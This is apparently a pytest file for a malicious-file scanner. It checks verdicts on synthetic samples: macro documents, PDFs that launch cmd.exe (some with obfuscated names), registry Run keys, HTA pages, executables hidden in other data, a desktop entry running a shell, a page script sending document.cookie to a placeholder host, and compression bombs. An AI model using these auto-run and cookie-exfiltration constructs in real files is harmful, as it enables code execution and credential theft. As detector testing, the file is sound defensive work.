"""Documents and small files of a desktop that act when they are opened, and programs inside of other data."""

from __future__ import annotations

import base64
import pickle
import random
import struct
import zlib

import pytest

from moongate.scan.engine import judge
from moongate.scan.pdf import MOST_BYTES
from moongate.weights.ranged import Held
from support.pickled import EVIL, zipped


def verdict(data: bytes | str, name: str = "file") -> str:
    return judge(Held(data.encode() if isinstance(data, str) else data), name).verdict


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
MACROS = OLE + "_VBA_PROJECT".encode("utf-16-le") + bytes(60)
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(200)
PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\x00\x00" + struct.pack("<H", 0x8664) + bytes(200)
CUBIN = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 190, 1) + bytes(200)
NUMBERS = bytes(range(256)) * 20
RUN = r"[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run]"
HTA = '<html><HTA:APPLICATION id="x"><script language="VBScript">x</script></html>'
DANGEROUS = {
    "macros that start a program": MACROS + b"AutoOpen WScript.Shell",
    "a PDF that starts one": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj",
    "a PDF that hides its words": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/L#61unch/F(cmd.exe)>>>>endobj",
    "a registry": f'Windows Registry Editor Version 5.00\n\n{RUN}\n"x"="calc.exe"\n',
    "a page that Windows runs": HTA,
    "a program behind numbers": NUMBERS + ELF,
    "one for Windows": NUMBERS + PE,
    "behind a picture": b"\x89PNG\r\n\x1a\n" + bytes(100) + ELF,
    "in a pickle": pickle.dumps({"w": ELF * 3}, 4),
    "for an old Python": b"\x03\xf3\r\n" + bytes(4) + b"c" + bytes(60),
    "for several Macs": b"\xbe\xba\xfe\xca\x02\x00\x00\x00" + bytes(100),
    "for Erlang": b"FOR1\x00\x00\x01\x00BEAMAtU8" + bytes(60),
}
ODD = {
    "macros": MACROS,
    "macros in a zip": zipped({"[Content_Types].xml": b"<Types/>", "word/vbaProject.bin": MACROS}),
    "an installer": OLE + bytes.fromhex("84100c0000000000c000000000000046") + bytes(60),
    "a PDF with a script": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(x)>>>>endobj",
    "an object in RTF": r"{\rtf1{\object\objautlink\objupdate{\*\objdata 01}}}",
    "a starter": "[Desktop Entry]\nType=Application\nExec=bash -c id\n",
    "an address": "[InternetShortcut]\nURL=file://x.test/share/x\n",
    "a page that takes": '<html><script>fetch("http://x.test/?"+document.cookie)</script></html>',
    "an engine": b"ftrt" + bytes(200),
    "a package": b"\xed\xab\xee\xdb\x03\x00" + bytes(200),
    "a disk": bytes(32_768) + b"\x01CD001\x01" + bytes(3000),
    "a disk of Apple's": bytes(3000) + b"koly\x00\x00\x00\x04" + bytes(504),
}
ORDINARY = {
    "a sheet": OLE + bytes(300),
    "a PDF": b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj",
    "code for a GPU": NUMBERS + CUBIN,
    "marks by chance": NUMBERS + b"MZ" + bytes(300) + b"\x7fELF" + bytes(300),
    "a page": "<html><script>document.title = localStorage.x</script></html>",
}


@pytest.mark.parametrize("name", DANGEROUS)
def test_what_starts_programs_is_dangerous(name: str) -> None:
    assert verdict(DANGEROUS[name]) == "dangerous"


@pytest.mark.parametrize("name", ODD)
def test_what_acts_is_not_clean(name: str) -> None:
    assert verdict(ODD[name]) in {"suspicious", "unscanned"}


@pytest.mark.parametrize("name", ORDINARY)
def test_what_does_nothing_is_clean(name: str) -> None:
    assert verdict(ORDINARY[name]) == "clean"


LAUNCH = b"5 0 6 30 <</Type/Catalog/OpenAction 6 0 R>> <</S/Launch/F(cmd.exe)>>"
SCRIPT = b"5 0 6 30 <</Type/Catalog/OpenAction 6 0 R>> <</S/JavaScript/JS(x)>>"
PAGES = b"5 0 6 30 <</Type/Catalog/Pages 6 0 R>> <</Type/Pages/Kids[]>>"
DRAWN = b"1 0 0 1 72 720 cm BT /F1 12 Tf (see /JavaScript and cmd.exe) Tj ET"


def pdf(data: bytes, filters: bytes = b"/FlateDecode", about: bytes = b"/Type/ObjStm/N 2/First 10") -> bytes:
    told = b"<<%s/Filter[%s]/Length %d>>" % (about, filters, len(data))
    return b"%PDF-1.7\n4 0 obj" + told + b"stream\r\n" + data + b"\r\nendstream endobj\n%%EOF\n"


PACKED = {
    "deflated": (b"/FlateDecode", zlib.compress),
    "by a short name": (b"/Fl", zlib.compress),
    "by a hidden name": (b"/F#6cateDecode", zlib.compress),
    "as digits": (b"/ASCIIHexDecode", lambda data: data.hex().encode() + b">"),
    "as letters, deflated": (
        b"/ASCII85Decode /FlateDecode",
        lambda data: base64.a85encode(zlib.compress(data)) + b"~>",
    ),
}


@pytest.mark.parametrize("name", PACKED)
def test_objects_of_a_pdf_are_found_in_streams(name: str) -> None:
    filters, pack = PACKED[name]
    assert verdict(pdf(pack(LAUNCH), filters)) == "dangerous"
    assert verdict(pdf(pack(LAUNCH.replace(b"Launch", b"L#61unch")), filters)) == "dangerous"
    assert verdict(pdf(pack(SCRIPT), filters)) == "suspicious"
    assert verdict(pdf(pack(PAGES), filters)) == "clean"


def test_what_a_pdf_carries_is_looked_at() -> None:
    for carried, expected in ((EVIL, "dangerous"), (PE, "dangerous"), (b"a,b\n1,2\n", "clean")):
        assert verdict(pdf(zlib.compress(carried), about=b"/Type/EmbeddedFile")) == expected


def test_a_pdf_is_searched_within_bounds() -> None:
    bomb = zlib.compress(bytes(200 << 20))
    assert verdict(pdf(bomb) + pdf(zlib.compress(LAUNCH))[9:]) == "dangerous"
    assert verdict(pdf(zlib.compress(LAUNCH)[:-5])) in {"dangerous", "clean"}
    many = b"".join(pdf(zlib.compress(PAGES * 40_000))[9:] for _ in range(20))
    assert verdict(b"%PDF-1.7\n" + many + pdf(zlib.compress(LAUNCH))[9:]) == "unscanned"
    assert verdict(pdf(zlib.compress(PAGES * 80_000))) == "unscanned"
    assert (
        verdict(b"%PDF-1.7\n" + b"4 0 obj<</Filter/Fl>>stream\n\nendstream\n" * 6000 + LAUNCH) == "dangerous"
    )
    assert verdict(b"%PDF-1.7\n" + b"4 0 obj<</Filter/Fl>>stream\n\nendstream\n" * 6000) == "unscanned"
    assert verdict(b"%PDF-1.7\n" + b"#41" * 1_100_000) == "unscanned"
    assert verdict(b"%PDF-1.7\n" + b"#41" * 1_100_000 + b"/S/Launch") == "dangerous"
    # What comes before leaves nine packed bytes to the last stream: too few to tell what it is.
    before = pdf(b"x" * (2 * MOST_BYTES // 64 - 12), b"/A85") + pdf(b"x" * 629, b"/Fl")[9:]
    last = zlib.compress(LAUNCH + bytes(random.Random(1).choices(b"(moon) <gate>", k=3000)))
    assert verdict(before + pdf(last)[9:]) == "unscanned"
    locked = b"%PDF-1.7\ntrailer<</Encrypt 9 0 R>>" + pdf(bytes(range(60)))[9:]
    assert verdict(locked) == "unscanned"
